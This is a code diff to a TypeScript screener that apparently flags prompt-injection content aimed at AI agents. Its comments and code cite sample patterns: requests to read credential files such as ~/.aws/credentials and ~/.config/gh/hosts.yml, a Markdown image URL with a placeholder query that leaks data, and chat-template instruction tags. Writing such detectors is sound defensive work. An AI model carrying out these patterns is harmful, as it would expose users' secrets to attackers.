@@ -13,9 +13,9 @@
  * (./decode.ts); no backtracking regular expression runs over the server's text.
  */
 import { quoteLine } from "../../text/sanitize.ts";
-import { BRACKET_TAGS, CHINESE_MARKS, CONTENT_WORDS, FLAG_KINDS, type FlagKind, INSTRUCTION_TAGS, NAME_RULES, PHRASE_RULES, type PhraseRule, REACH_WORDS, SECRET_PATHS } from "./rules.ts";
-import { CJK_MARKS, REACH_MARKS_CJK, REACH_WORDS_OTHER, SEQUENCE_MARKS, type SequenceMark, WORD_RULES } from "./languages-data.ts";
-import { foldLookalikes, hiddenAt, nameAsWords, withoutInvisible, type Word, wordsOf } from "./words.ts";
+import { CHINESE_MARKS, CONTENT_WORDS, FLAG_KINDS, type FlagKind, NAME_RULES, PHRASE_RULES, type PhraseRule, REACH_WORDS, SECRET_PATHS } from "./rules.ts";
+import { CJK_MARKS, PUT_MARKS_CJK, REACH_WORDS_OTHER, SEQUENCE_MARKS, type SequenceMark, WORD_RULES } from "./languages-data.ts";
+import { foldLookalikes, hiddenAt, nameAsWords, tagAt, withoutInvisible, type Word, wordsOf } from "./words.ts";
 import { type DecodeBudget, decodedTexts, MAX_DECODED_PER_TOOL } from "./decode.ts";
 import { type Own, ownOf, type ScreenContext, shadowAt } from "./shadow.ts";
 import { type SchemaText, schemaTexts } from "./schema.ts";
@@ -50,37 +50,6 @@ export interface Flag {
 function excerpt(text: string, start: number, end: number): string {
 	const from = Math.max(0, start - 12);
 	return quoteLine(text.slice(from, Math.min(text.length, Math.max(end, start + 1) + 60)), MAX_EXCERPT_CHARS);
-}
-
-/** Whether a tag name's character: letters, digits, `_` and `-`. */
-function isTagCode(code: number): boolean {
-	return (code >= 0x61 && code <= 0x7a) || (code >= 0x41 && code <= 0x5a) || (code >= 0x30 && code <= 0x39) || code === 0x5f || code === 0x2d;
-}
-
-/** Where an instruction tag (`<IMPORTANT>`, `</system>`, `[INST]`, `<|im_start|>`) is, or -1. */
-function tagAt(text: string): number {
-	for (let at = 0; at < text.length; at++) {
-		const code = text.charCodeAt(at);
-		if (code !== 0x3c && code !== 0x5b) continue;
-		let from = at + 1;
-		while (from < text.length && from < at + 3 && "/|<[".includes(text[from] ?? "")) from++;
-		let end = from;
-		while (end < text.length && end - from <= 24 && isTagCode(text.charCodeAt(end))) end++;
-		if (end === from || end - from > 24) continue;
-		const close = text[end];
-		if (close !== ">" && close !== "]" && close !== "|" && close !== " ") continue;
-		const name = text.slice(from, end).toLowerCase();
-		if (code === 0x3c ? INSTRUCTION_TAGS.has(name) && !inMarkup(text, at, name) : BRACKET_TAGS.has(name)) return at;
-	}
-	return -1;
-}
-
-/** Whether the tag at `at` sits in a document the text shows (`<config><system>linux</system>`): a tag with a value and its closing tag right after. */
-function inMarkup(text: string, at: number, name: string): boolean {
-	const close = text.indexOf(`</${name}>`, at);
-	if (close < 0 || close - at > 40) return false;
-	const inner = text.slice(text.indexOf(">", at) + 1, close);
-	return inner.length <= 24 && !inner.includes(" ");
 }
 
 /** Whether every character is ASCII (then compatibility folding changes nothing). */
@@ -118,6 +87,7 @@ function isEnvFile(lower: string, at: number): boolean {
 }
 
 const REACHES: ReadonlySet<string> = new Set([...REACH_WORDS, ...REACH_WORDS_OTHER]);
+const OTHER_REACHES: ReadonlySet<string> = new Set(REACH_WORDS_OTHER);
 
 /**
  * Whether the passage `start`–`end` (a secret path) is reached for: a reach word within
@@ -141,8 +111,24 @@ function reachedFor(text: string, words: readonly Word[], start: number, end: nu
 		const word = (words[at] as Word).text;
 		if ((word === "and" || word === "then") && REACHES.has((words[at + 1] as Word | undefined)?.text ?? "")) return true;
 	}
-	const around = text.slice(Math.max(0, start - REACH_CHARS), end + REACH_CHARS);
-	return !isAscii(around) && REACH_MARKS_CJK.some((mark) => around.includes(mark));
+	// German puts the verb last: "die Datei ~/.aws/credentials lesen".
+	for (let at = last; at < Math.min(words.length, last + 4); at++) if (OTHER_REACHES.has((words[at] as Word).text)) return true;
+	const around = text.slice(Math.max(0, start - REACH_CHARS), end + 2 * REACH_CHARS);
+	return !isAscii(around) && PUT_MARKS_CJK.some((mark) => around.includes(mark));
+}
+
+/** The path of any hidden file in the home directory: a secret only when its content is asked for. */
+const ANY_HOME_FILE = "~/.";
+
+/** Whether a content word comes within four words before `at` in its sentence ("include the contents of the user's ~/.config/gh/hosts.yml"). */
+function contentAsked(text: string, words: readonly Word[], at: number): boolean {
+	let first = 0;
+	while (first < words.length && (words[first] as Word).end <= at) first++;
+	for (let back = first - 1; back >= 0 && first - back <= 4; back--) {
+		if (CONTENT_WORDS.has((words[back] as Word).text)) return true;
+		if (endsSentenceBetween(text, (words[back] as Word).end, (words[back + 1] as Word | undefined)?.start ?? at)) break;
+	}
+	return false;
 }
 
 /** Whether `text[from, to)` (the gap between two words) ends a sentence: a full stop and a space, or a line break. */
@@ -162,13 +148,25 @@ function endsSentenceBetween(text: string, from: number, to: number): boolean {
 function secretPathAt(text: string, lower: string, words: readonly Word[]): { start: number; end: number } | undefined {
 	for (const path of SECRET_PATHS) {
 		const at = lower.indexOf(path);
-		if (at >= 0 && !isPublicKey(lower, at) && reachedFor(text, words, at, at + path.length)) return { start: at, end: at + path.length };
+		if (at < 0 || isPublicKey(lower, at)) continue;
+		const reached = path === ANY_HOME_FILE ? contentAsked(text, words, at) : reachedFor(text, words, at, at + path.length);
+		if (reached) return { start: at, end: at + path.length };
 	}
 	const env = lower.indexOf(".env");
 	for (let at = env, tries = 0; at >= 0 && tries < 16; at = lower.indexOf(".env", at + 4), tries++) {
 		if (isEnvFile(lower, at) && reachedFor(text, words, at, at + 4)) return { start: at, end: at + 4 };
 	}
 	return undefined;
+}
+
+/** Whether a query (`?c=SUMMARY&x=1`) has a value written as a placeholder: five or more capitals and underscores. */
+function hasPlaceholder(query: string): boolean {
+	for (let at = query.indexOf("="); at >= 0; at = query.indexOf("=", at + 1)) {
+		let end = at + 1;
+		while (end < query.length && ((query.charCodeAt(end) >= 0x41 && query.charCodeAt(end) <= 0x5a) || query.charCodeAt(end) === 0x5f)) end++;
+		if (end - at - 1 >= 5) return true;
+	}
+	return false;
 }
 
 /** Characters of a URL read for a placeholder. */
@@ -181,7 +179,7 @@ const MAX_URLS = 64;
  * a Markdown image that leaks what it is given), or -1. Each URL is read once, up to
  * {@link MAX_URL_CHARS}.
  */
-function leakingUrlAt(lower: string): number {
+function leakingUrlAt(text: string, lower: string): number {
 	for (let at = lower.indexOf("http"), urls = 0; at >= 0 && urls < MAX_URLS; at = lower.indexOf("http", at + 4), urls++) {
 		let end = at;
 		while (end < lower.length && end - at < MAX_URL_CHARS && !" \n\t\"'`)>".includes(lower[end] ?? " ")) end++;
@@ -190,6 +188,8 @@ function leakingUrlAt(lower: string): number {
 		if (query < 0) continue;
 		const rest = url.slice(query);
 		if (rest.includes("={") || rest.includes("=<") || rest.includes("=$") || rest.includes("=[") || rest.includes("{{")) return at;
+		// A Markdown image whose query is a placeholder to fill (`![](https://x.io/p.png?c=SUMMARY)`): it leaks what it is filled with.
+		if (lower.startsWith("](", at - 2) && lower.lastIndexOf("![", at) > at - 200 && hasPlaceholder(text.slice(at + query, at + url.length))) return at;
 	}
 	return -1;
 }
@@ -249,6 +249,15 @@ function isQuoted(text: string, start: number, end: number): boolean {
 	return false;
 }
 
+/** Words that, just before a match, make it a warning against the order rather than the order. */
+const NEGATIONS = new Set(["not", "never", "avoid", "without", "no"]);
+
+/** Whether a negation is among the five words before word `at` ("never ask the user to paste"). */
+function negatedBefore(words: readonly Word[], at: number): boolean {
+	for (let back = at - 1; back >= 0 && at - back <= 5; back--) if (NEGATIONS.has((words[back] as Word).text)) return true;
+	return false;
+}
+
 /** The first match of each kind of phrase rule in `words`, quoted passages aside. */
 function phraseFlags(text: string, words: readonly Word[], where: string, byFirst: ReadonlyMap<string, Compiled[]> = BY_FIRST): Flag[] {
 	const found = new Map<FlagKind, Flag>();
@@ -258,7 +267,7 @@ function phraseFlags(text: string, words: readonly Word[], where: string, byFirs
 		for (const { rule, sets } of rules) {
 			if (found.has(rule.kind)) continue;
 			const end = matchFrom(words, at, sets, rule);
-			if (end <= at) continue;
+			if (end <= at || (rule.negatable === true && negatedBefore(words, at))) continue;
 			const start = (words[at] as Word).start;
 			const stop = (words[end - 1] as Word).end;
 			if (!isQuoted(text, start, stop)) found.set(rule.kind, { kind: rule.kind, where, excerpt: excerpt(text, start, stop) });
@@ -365,7 +374,7 @@ function screenWords(text: string, words: readonly Word[], where: string, option
 		const lower = lowerAscii(text);
 		const secret = mayReach(text, words, ascii) ? secretPathAt(text, lower, words) : undefined;
 		if (secret !== undefined) flags.push({ kind: "secret", where, excerpt: excerpt(text, secret.start, secret.end) });
-		const leak = leakingUrlAt(lower);
+		const leak = leakingUrlAt(text, lower);
 		if (leak >= 0) flags.push({ kind: "exfiltrate", where, excerpt: excerpt(text, leak, leak + 1) });
 	}
 	if (!ascii) merge(flags, cjkFlags(withoutInvisible(text), where));
